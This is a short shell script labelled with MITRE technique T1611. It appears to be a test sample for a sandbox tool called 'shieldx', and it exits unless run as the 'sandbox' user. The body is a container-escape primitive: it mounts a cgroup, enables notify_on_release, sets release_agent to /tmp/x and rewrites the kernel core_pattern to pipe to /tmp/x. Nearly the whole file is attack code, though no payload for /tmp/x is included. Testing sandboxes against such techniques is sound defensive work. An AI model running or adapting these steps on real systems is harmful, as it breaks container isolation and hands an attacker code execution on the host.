#!/bin/sh
# technique: T1611
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg; echo 1 > /tmp/cg/notify_on_release; echo /tmp/x > /tmp/cg/release_agent; echo '|/tmp/x' > /proc/sys/kernel/core_pattern
